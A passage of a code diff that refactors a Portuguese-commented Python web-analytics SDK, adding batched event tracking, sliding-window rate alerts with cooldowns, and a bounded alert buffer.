-            "Coletar feedback para melhorias"
-        ]
+    return _ENGAGEMENT_RECS.get(level, _ENGAGEMENT_RECS["Alto"])
 
 
-def get_performance_recommendations(level: str, avg_response_time: float) -> List[str]:
+def get_performance_recommendations(level: str, avg_response_time: float) -> Tuple[str, ...]:
     """Recomendações para melhorar performance"""
-    recommendations = []
-    
-    if level == "Ruim":
-        recommendations.extend([
-            "URGENTE: Investigar gargalos de performance",
-            "Revisar infraestrutura e recursos",
-            "Implementar cache agressivo",
-            "Otimizar consultas de banco de dados"
-        ])
-    elif level == "Regular":
-        recommendations.extend([
-            "Implementar cache em endpoints lentos",
-            "Otimizar consultas de banco",
-            "Revisar código dos endpoints mais usados"
-        ])
-    elif level == "Boa":
-        recommendations.extend([
-            "Monitorar tendências de performance",
-            "Implementar cache preventivo",
-            "Considerar CDN para recursos estáticos"
-        ])
-    else:  # Excelente
-        recommendations.append("Manter padrão atual de excelência")
+    recommendations = _PERFORMANCE_RECS.get(level, _PERFORMANCE_RECS["Excelente"])
     
     # Recomendações específicas para tempo de resposta
     if avg_response_time > 1000:
-        recommendations.append("Tempos de resposta > 1s são críticos - investigar imediatamente")
+        return recommendations + ("Tempos de resposta > 1s são críticos - investigar imediatamente",)
     elif avg_response_time > 500:
-        recommendations.append("Tempos de resposta > 500ms afetam experiência do usuário")
+        return recommendations + ("Tempos de resposta > 500ms afetam experiência do usuário",)
     elif avg_response_time > 300:
-        recommendations.append("Considerar otimizações para reduzir tempo de resposta")
+        return recommendations + ("Considerar otimizações para reduzir tempo de resposta",)
     
     return recommendations
 
 
 # ============= FUNCIONALIDADES AVANÇADAS =============
 
+# Valores válidos dos enums, calculados uma vez para os testes de pertinência por evento
+_EVENT_TYPE_VALUES = frozenset(e.value for e in EventType)
+_HTTP_METHOD_VALUES = frozenset(m.value for m in HTTPMethod)
+
+# Janela deslizante (ns) das taxas de cliques/requisições usadas nos alertas
+ALERT_RATE_WINDOW_NS = 60 * _NS_PER_SECOND
+
+# Intervalo mínimo (ns) entre alertas do mesmo tipo para a mesma sessão
+ALERT_COOLDOWN_NS = 60 * _NS_PER_SECOND
+
+# Quantidade máxima de alertas mantidos; os mais antigos são descartados
+MAX_ALERTS = 10_000
+
+
 class RealTimeEventProcessor:
     """Processador de eventos em tempo real"""
     
@@ -1085,53 +1766,83 @@ class RealTimeEventProcessor:
             "long_idle_time": 300,  # segundos
             "high_error_rate": 20   # percentual
         }
-        self.alerts: List[Dict[str, Any]] = []
+        self.alerts: deque = deque(maxlen=MAX_ALERTS)
+        self._alert_ts = array('q')  # monotonic ns de cada alerta (paralelo a self.alerts, ordenado)
+        self.dropped_alerts = 0
+        
+        # Último alerta (monotonic ns) por (sessão, tipo): suprime repetições dentro do cooldown
+        self.alert_cooldown_ns = ALERT_COOLDOWN_NS
+        self._last_alert: Dict[Tuple[str, str], int] = {}
+        
+        # Timestamps (monotonic ns) do último minuto por sessão: taxa = tamanho da janela
+        self._click_windows: Dict[str, deque] = defaultdict(deque)
+        self._req_windows: Dict[str, deque] = defaultdict(deque)
+        
+        # Tipo do evento no stream -> coletor que cria o evento e o acrescenta ao lote
+        self._dispatch: Dict[str, Callable[[Dict[str, Any], list], None]] = {
+            'user_event': self._collect_user_event,
+            'request_event': self._collect_request_event,
+        }
     
     def process_event_stream(self, events: List[Dict[str, Any]]):
-        """Processa stream de eventos em tempo real"""
+        """Processa stream de eventos em tempo real (rastreados em lote, na ordem de chegada)"""
+        batch: list = []
+        dispatch = self._dispatch
         for event_data in events:
             self._check_alerts(event_data)
             
-            # Processar evento baseado no tipo
-            if event_data.get('type') == 'user_event':
-                self._process_user_event(event_data)
-            elif event_data.get('type') == 'request_event':
-                self._process_request_event(event_data)
+            # Separar evento baseado no tipo
+            collector = dispatch.get(event_data.get('type'))
+            if collector is not None:
+                collector(event_data, batch)
+        
+        self._flush_batch(batch)
+    
+    def _flush_batch(self, batch: list):
+        """Envia o lote ao SDK em trechos consecutivos do mesmo tipo, preservando a ordem de chegada"""
+        sdk = self.sdk
+        for is_request, run in itertools.groupby(batch, key=lambda event: type(event) is RequestEvent):
+            if is_request:
+                sdk.track_request_events_bulk(list(run))
+            else:
+                sdk.track_user_events_bulk(list(run))
     
     def _process_user_event(self, event_data: Dict[str, Any]):
         """Processa evento de usuário"""
-        event_type_str = event_data.get('event_type', 'CUSTOM')
-        event_type = EventType(event_type_str.lower()) if event_type_str.lower() in [e.value for e in EventType] else EventType.CUSTOM
+        batch: list = []
+        self._collect_user_event(event_data, batch)
+        self._flush_batch(batch)
+    
+    def _process_request_event(self, event_data: Dict[str, Any]):
+        """Processa evento de requisição"""
+        batch: list = []
+        self._collect_request_event(event_data, batch)
+        self._flush_batch(batch)
+    
+    def _collect_user_event(self, event_data: Dict[str, Any], batch: list):
+        """Cria o UserEvent na chegada (cliques e scrolls; demais tipos são ignorados)"""
+        event_type_str = event_data.get('event_type', 'CUSTOM').lower()
+        event_type = EventType(event_type_str) if event_type_str in _EVENT_TYPE_VALUES else EventType.CUSTOM
         
         if event_type == EventType.CLICK:
-            self.sdk.track_click(
-                session_id=event_data['session_id'],
-                element_id=event_data.get('element_id'),
-                coordinates=event_data.get('coordinates'),
-                page_url=event_data.get('page_url', '')
-            )
+            batch.append(_click_event_from(event_data))
         elif event_type == EventType.SCROLL:
-            self.sdk.track_scroll(
-                session_id=event_data['session_id'],
-                scroll_position=event_data.get('coordinates', {}),
-                page_url=event_data.get('page_url', ''),
-                direction=event_data.get('direction', 'unknown')
-            )
+            batch.append(_scroll_event_from(event_data))
     
-    def _process_request_event(self, event_data: Dict[str, Any]):
-        """Processa evento de requisição"""
+    def _collect_request_event(self, event_data: Dict[str, Any], batch: list):
+        """Cria o RequestEvent na chegada a partir dos campos do evento de requisição"""
         method_str = event_data.get('method', 'GET')
-        method = HTTPMethod(method_str) if method_str in [m.value for m in HTTPMethod] else HTTPMethod.GET
+        method = HTTPMethod(method_str) if method_str in _HTTP_METHOD_VALUES else HTTPMethod.GET
         
-        self.sdk.track_request(
-            session_id=event_data['session_id'],
-            endpoint=event_data['endpoint'],
-            method=method,
-            status_code=event_data['status_code'],
-            response_time_ms=event_data['response_time_ms'],
-            ip_address=event_data.get('ip_address', ''),
-            error_message=event_data.get('error_message')
-        )
+        batch.append(_request_event_from({
+            "session_id": event_data['session_id'],
+            "endpoint": event_data['endpoint'],
+            "method": method,
+            "status_code": event_data['status_code'],
+            "response_time_ms": event_data['response_time_ms'],
+            "ip_address": event_data.get('ip_address', ''),
+            "error_message": event_data.get('error_message')
+        }))
     
     def _check_alerts(self, event_data: Dict[str, Any]):
         """Verifica condições de alerta"""
@@ -1139,8 +1850,7 @@ class RealTimeEventProcessor:
         
         # Verificar alta taxa de cliques
         if event_data.get('type') == 'user_event' and event_data.get('event_type') == 'CLICK':
-            behavior_analysis = self.sdk.get_session_behavior_analysis(session_id)
-            click_rate = behavior_analysis['click_patterns']['click_frequency_per_minute']
+            click_rate = self._update_rate_window(self._click_windows[session_id])
             
             if click_rate > self.alert_thresholds['high_click_rate']:
                 self._create_alert("high_click_rate", session_id, 
@@ -1148,15 +1858,31 @@ class RealTimeEventProcessor:
         
         # Verificar alta taxa de requisições
         if event_data.get('type') == 'request_event':
-            request_metrics = self.sdk.endpoint_monitor.calculate_requests_per_minute(session_id)
-            request_rate = request_metrics['requests_per_minute']
+            request_rate = self._update_rate_window(self._req_windows[session_id])
             
             if request_rate > self.alert_thresholds['high_request_rate']:
                 self._create_alert("high_request_rate", session_id,
                                  f"Taxa de requisições elevada: {request_rate:.1f}/min")
     
+    @staticmethod
+    def _update_rate_window(window: deque) -> int:
+        """Registra o evento atual na janela e retorna a quantidade no último minuto"""
+        now_ns = time.monotonic_ns()
+        cutoff_ns = now_ns - ALERT_RATE_WINDOW_NS
+        while window and window[0] < cutoff_ns:
+            window.popleft()
+        window.append(now_ns)
+        return len(window)
+    
     def _create_alert(self, alert_type: str, session_id: str, message: str):
-        """Cria um alerta"""
+        """Cria um alerta (no máximo um por sessão e tipo dentro do cooldown)"""
+        now_ns = time.monotonic_ns()
+        key = (session_id, alert_type)
+        last_ns = self._last_alert.get(key)
+        if last_ns is not None and now_ns - last_ns < self.alert_cooldown_ns:
+            return
+        self._last_alert[key] = now_ns
+        
         alert = {
             "id": str(uuid.uuid4()),
             "type": alert_type,
@@ -1166,7 +1892,12 @@ class RealTimeEventProcessor:
             "severity": self._get_alert_severity(alert_type)
         }
         
+        # Buffer cheio: o deque descarta o alerta mais antigo, a coluna de tempos acompanha
+        if len(self.alerts) == self.alerts.maxlen:
+            del self._alert_ts[0]
+            self.dropped_alerts += 1
         self.alerts.append(alert)
+        self._alert_ts.append(now_ns)
         logger.warning(f"ALERTA [{alert['severity']}]: {message}")
     
     def _get_alert_severity(self, alert_type: str) -> str:
@@ -1181,11 +1912,13 @@ class RealTimeEventProcessor:
     
     def get_active_alerts(self, hours: int = 1) -> List[Dict[str, Any]]:
         """Obtém alertas ativos"""
-        cutoff = datetime.now() - timedelta(hours=hours)
-        return [alert for alert in self.alerts 
-                if datetime.fromisoformat(alert['timestamp']) > cutoff]
+        # Alertas são criados em ordem cronológica: busca binária pelo corte
+        cutoff_ns = time.monotonic_ns() - hours * 3600 * _NS_PER_SECOND
+        start = bisect.bisect_right(self._alert_ts, cutoff_ns)
+        return list(itertools.islice(self.alerts, start, None))
 
 
 # Executar demonstração se o arquivo for executado diretamente
 if __name__ == "__main__":
+    logging.basicConfig(level=logging.INFO)
     exemplo_uso_completo()